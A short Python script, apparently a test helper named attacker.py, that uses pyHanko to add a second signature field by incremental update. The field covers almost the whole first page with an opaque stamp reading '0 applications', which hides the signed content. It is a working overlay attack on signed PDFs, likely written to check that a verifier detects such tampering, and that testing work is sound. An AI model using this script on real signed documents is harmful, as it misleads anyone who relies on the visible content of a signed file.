"""The attacker's own signature, by pyHanko: a new field over the whole page whose look hides it. Run by the
Python of build/venv.

    attacker.py IN.pdf OUT.pdf KEY.pem CERT.pem
"""
import sys

from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.stamp import TextStampStyle


def main(source, target, key, certificate):
    signer = signers.SimpleSigner.load(key, certificate)
    meta = signers.PdfSignatureMetadata(field_name="more", subfilter=fields.SigSeedSubFilter.PADES)
    spec = fields.SigFieldSpec("more", box=(60, 60, 540, 760), on_page=0)
    with open(source, "rb") as file, open(target, "wb") as out:
        signers.PdfSigner(meta, signer=signer, stamp_style=TextStampStyle(
            stamp_text="0 applications", background_opacity=1), new_field_spec=spec).sign_pdf(
                IncrementalPdfFileWriter(file), output=out)


if __name__ == "__main__":
    main(*sys.argv[1:])
